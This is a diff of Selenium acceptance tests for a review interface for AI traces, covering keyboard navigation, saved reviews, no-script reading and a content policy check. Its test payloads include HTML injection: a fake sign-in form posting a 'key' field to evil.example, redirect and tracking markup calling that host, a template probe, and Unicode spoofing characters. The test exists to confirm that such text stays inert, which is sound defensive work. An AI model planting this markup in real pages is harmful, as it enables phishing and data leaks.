@@ -14,7 +14,9 @@ from selenium.webdriver.common.keys import Keys
 from selenium.webdriver.remote.webdriver import WebDriver
 from selenium.webdriver.support.wait import WebDriverWait
 
-from proxy.store import queries
+from proxy.store import queries, reviews
+from tests.acceptance.test_hostile_text import PAYLOADS as hostile
+from tests.acceptance.test_hostile_text import storable
 from tests.proxy.review import documents
 from tests.proxy.review.site import ADMIN_KEY, Site, served, site
 from tests.proxy.review.test_routes import hostile_trace
@@ -35,6 +37,7 @@ PAYLOADS = (
     "</textarea></select></table></main><form action=https://evil.example><input name=key><button>Sign in</button></form>",
     "<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content='0;url=https://evil.example'>",
     "<img src=https://evil.example/p.png> ![x](https://evil.example/p.png) {{ 7*7 }} {% raw %} &lt;b&gt;",
+    *(text for name, text in hostile.items() if name != "long"),
     "\u202egnp.exe\u202c \u2066isolate\u2069 zero\u200bwidth \ufeffbom \U000e0041tag nul\0 half\ud800",
 )
 
@@ -98,16 +101,22 @@ def test_a_trace_is_judged_by_keyboard_alone(signed_in: WebDriver, pages: Site, 
     assert focused(signed_in) == "note"
     press(signed_in, "A refund was asked for; j and 3 are letters here.")
     signed_in.switch_to.active_element.send_keys(Keys.CONTROL, Keys.ENTER)
-    WebDriverWait(signed_in, 5, 0.03).until(lambda b: "saved=1" in b.current_url)
+    # Saved, and on to the next one, which offers the way back and to undo it.
+    arrived(signed_in, f"/review/traces/{ids[2]}")
+    assert f"saved={ids[1]}." in signed_in.current_url
+    signed_in.find_element(By.LINK_TEXT, "The trace before").click()
+    arrived(signed_in, f"/review/traces/{ids[1]}")
 
     listed = signed_in.find_element(By.ID, "reviews").text
     assert "False positive" in listed and "j and 3 are letters here." in listed and "admin" in listed
-    [review] = queries.reviews(pages.store, ids[1])
+    [review] = reviews.reviews(pages.store, ids[1])
     assert (review["verdict"], review["author"]) == ("false_positive", "admin")
 
     press(signed_in, "j")
     arrived(signed_in, f"/review/traces/{ids[2]}")
-    press(signed_in, "k", "u")
+    press(signed_in, "k")
+    arrived(signed_in, f"/review/traces/{ids[1]}")
+    press(signed_in, "q")
     arrived(signed_in, "/review")
 
 
@@ -135,9 +144,9 @@ def test_hostile_text_neither_runs_nor_calls_out(signed_in: WebDriver, pages: Si
         for n, text in enumerate(PAYLOADS)
     ]
     assert pages.store.write(traces) == []
-    clean = [text.replace("\ud800", "").replace("\0", "") for text in PAYLOADS]
+    clean = [storable(text) for text in PAYLOADS]
     for trace, text in zip(traces, clean, strict=True):
-        queries.add_review(pages.store, trace["id"], queries.NewReview("unsure", text, text))
+        reviews.add_review(pages.store, trace["id"], reviews.NewReview("unsure", text, text))
     run = documents.run("hostile", suite=clean[0], items=[
         {"id": text, "repeat": 0, "output": {"text": text, "error": text, "trace_id": text, "verdict": text, "tool_calls": [{"name": text, "arguments": text}]}, "scores": {text: {"status": "unscored", "value": None, "reason": text}}}
         for text in clean
@@ -191,9 +200,9 @@ def test_without_javascript_the_pages_can_be_read(signed_in: WebDriver, base: st
         WebDriverWait(signed_in, 5, 0.03).until(lambda b: document["id"] in b.current_url)
         text = signed_in.find_element(By.TAG_NAME, "main").text
         assert "Your order NW-48213 is in transit" in text and "lookup_order" in text and "Findings 8" in text
-        signed_in.find_element(By.CSS_SELECTOR, "input[value=true_positive]").click()
-        signed_in.find_element(By.CSS_SELECTOR, "#verdict button.main").click()
-        WebDriverWait(signed_in, 5, 0.03).until(lambda b: "saved=1" in b.current_url)
+        signed_in.find_element(By.CSS_SELECTOR, "#finding-1 label.true_positive").click()
+        signed_in.find_element(By.CSS_SELECTOR, "#verdict button[value=stay]").send_keys(Keys.ENTER)
+        WebDriverWait(signed_in, 5, 0.03).until(lambda b: f"saved={document['id']}." in b.current_url)
         assert "True positive" in signed_in.find_element(By.ID, "reviews").text
         assert not signed_in.find_element(By.ID, "show-keys").is_displayed()
     finally:
@@ -227,3 +236,16 @@ def test_pages_fit_and_can_be_read_in_both_themes(
 
 CONTRAST = Path(__file__).with_name("contrast.js").read_text(encoding="utf-8")
 """Lists the texts whose colour is too close to what is behind them."""
+
+
+def test_the_overview_breaks_no_rule_of_its_own(signed_in: WebDriver, base: str) -> None:
+    """Charts and tables under the strict policy, readable in both schemes; a table opens without a script of ours."""
+    signed_in.get(f"{base}/review/overview?since=24h")
+    arrived(signed_in, "/review/overview")
+
+    assert signed_in.find_elements(By.CSS_SELECTOR, "svg.plot .column rect")
+    signed_in.find_element(By.CSS_SELECTOR, ".chart summary").click()
+    assert signed_in.find_element(By.CSS_SELECTOR, ".chart table").is_displayed()
+    assert [
+        entry for entry in signed_in.get_log("browser") if "Content Security Policy" in entry["message"]
+    ] == []
